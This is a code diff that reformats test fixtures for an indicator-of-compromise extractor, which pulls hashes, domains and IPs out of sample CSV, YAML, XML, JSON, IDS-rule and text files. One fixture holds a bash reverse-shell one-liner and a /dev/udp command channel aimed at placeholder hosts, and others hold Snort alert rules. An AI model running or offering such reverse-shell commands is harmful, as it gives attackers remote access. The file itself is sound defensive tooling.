@@ -100,18 +100,33 @@ def test_kinds_are_known_however_their_words_are_joined() -> None:
 
 
 LISTS = [
-    ("a.csv", f"a.exe,MD5: {MD5},SHA1: {SHA1}\nb.exe,MD5: {MD5[::-1]},SHA1: {SHA1[::-1]}\n", [MD5, SHA1, MD5[::-1], SHA1[::-1]]),
-    ("b.csv", "Domain: a.example;IP: 203.0.113.5\nDomain: b.example;IP: 203.0.113.6\n", ["a.example", "203.0.113.5", "b.example", "203.0.113.6"]),
-    ("c.csv", "Domain (C2),IP (host)\na.example,203.0.113.5\nb.example,203.0.113.6\n", ["a.example", "203.0.113.5", "b.example", "203.0.113.6"]),
-    ("apps.yaml", "- name: Spy\n  packages:\n  - com.spy.one\n  - org.spy.two\n  - net.spy.three\n  c2:\n    domains:\n    - api.spy.example\n", ["api.spy.example"]),
+    ("a.csv", f"a.exe,MD5: {MD5},SHA1: {SHA1}\nb.exe,MD5: {MD5[::-1]},SHA1: {SHA1[::-1]}\n",
+     [MD5, SHA1, MD5[::-1], SHA1[::-1]]),
+    ("b.csv", "Domain: a.example;IP: 203.0.113.5\nDomain: b.example;IP: 203.0.113.6\n",
+     ["a.example", "203.0.113.5", "b.example", "203.0.113.6"]),
+    ("c.csv", "Domain (C2),IP (host)\na.example,203.0.113.5\nb.example,203.0.113.6\n",
+     ["a.example", "203.0.113.5", "b.example", "203.0.113.6"]),
+    ("apps.yaml", ("- name: Spy\n  packages:\n  - com.spy.one\n  - org.spy.two\n  - net.spy.three\n  c2:\n"
+                   "    domains:\n    - api.spy.example\n"), ["api.spy.example"]),
     ("sums.txt", f"\\{SHA256}  back\\\\slash.exe\n", [SHA256]),
-    ("old.rules", 'alert tcp any any -> any 80 (msg:"x"; content:"Host|3a 20|evil.example|0d 0a|"; sid:1;)\nalert tcp any any -> any 80 (msg:"y"; content:"Host: b.example"; http_header; sid:2;)\nalert tcp any any -> any 80 (msg:"z"; content:!"Host|3a| good.example"; sid:3;)\n', ["evil.example", "b.example"]),
-    ("note.txt", "4. Mẫu tệp: C:\\Windows\\a.exe, update.com\n- File name: setup.com\n- Máy chủ: update.example\n", ["update.example"]),
-    ("plain.xml", "<iocs><ioc type='domain'><value>evil.example</value></ioc><ioc type='filename'><value>evil.com</value></ioc></iocs>", ["evil.example", "evil.com"]),
-    ("report.json", json.dumps({"domains": ["evil.example"], "files": ["evil.com"], "packages": ["org.evil.app"], "names": ["b.com"], "meaningful_name": "a.com"}), ["evil.example"]),
-    ("records.json", json.dumps({"mask": "evil.example", "files": [{"MD5": MD5, "name": "a.com"}]}), ["evil.example", MD5]),
-    ("shell.txt", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\nexec 3<>/dev/udp/c2.example/53\n", ["203.0.113.5", "c2.example"]),
-    ("versions.txt", "Affected: FortiOS 7.2.0.1 through 7.2.4.9\nSee section 1.2.3.4.\nC2: 203.0.113.5\n", ["203.0.113.5"]),
+    ("old.rules", ('alert tcp any any -> any 80 (msg:"x"; content:"Host|3a 20|evil.example|0d 0a|"; '
+                   'sid:1;)\nalert tcp any any -> any 80 (msg:"y"; content:"Host: b.example"; http_header; '
+                   'sid:2;)\nalert tcp any any -> any 80 (msg:"z"; content:!"Host|3a| good.example"; '
+                   'sid:3;)\n'), ["evil.example", "b.example"]),
+    ("note.txt",
+     "4. Mẫu tệp: C:\\Windows\\a.exe, update.com\n- File name: setup.com\n- Máy chủ: update.example\n",
+     ["update.example"]),
+    ("plain.xml", ("<iocs><ioc type='domain'><value>evil.example</value></ioc><ioc "
+                   "type='filename'><value>evil.com</value></ioc></iocs>"), ["evil.example", "evil.com"]),
+    ("report.json",
+     json.dumps({"domains": ["evil.example"], "files": ["evil.com"], "packages": ["org.evil.app"],
+         "names": ["b.com"], "meaningful_name": "a.com"}), ["evil.example"]),
+    ("records.json", json.dumps({"mask": "evil.example", "files": [{"MD5": MD5, "name": "a.com"}]}),
+     ["evil.example", MD5]),
+    ("shell.txt", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\nexec 3<>/dev/udp/c2.example/53\n",
+     ["203.0.113.5", "c2.example"]),
+    ("versions.txt", "Affected: FortiOS 7.2.0.1 through 7.2.4.9\nSee section 1.2.3.4.\nC2: 203.0.113.5\n",
+     ["203.0.113.5"]),
     ("spaced.txt", "C2: http:// evil[.]example /gate\n", ["http://evil.example/gate"]),
 ]  # fmt: skip
 
